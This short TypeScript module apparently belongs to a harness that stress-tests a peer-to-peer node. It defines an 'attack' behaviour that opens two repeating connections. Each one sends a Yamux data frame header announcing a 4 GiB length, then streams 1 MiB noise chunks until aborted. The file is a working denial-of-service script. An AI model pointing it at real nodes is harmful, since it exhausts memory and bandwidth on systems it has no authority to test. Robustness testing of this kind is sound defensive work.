/** One Yamux frame that announces 4 GiB, and the bytes of it, as many as the node takes. */
import { again, many, type Behaviour } from '../attack/target.js'
import { FRAME, header, noise1MiB, wire } from '../attack/wire.js'

export const attack: Behaviour = async (target, signal) => many(2, async () => again(signal, async () => {
  const connection = await wire(target, signal)
  await connection.send(header(FRAME.data, 0, 1, 0xffff_ffff))
  while (!signal.aborted) await connection.send(noise1MiB)
}))
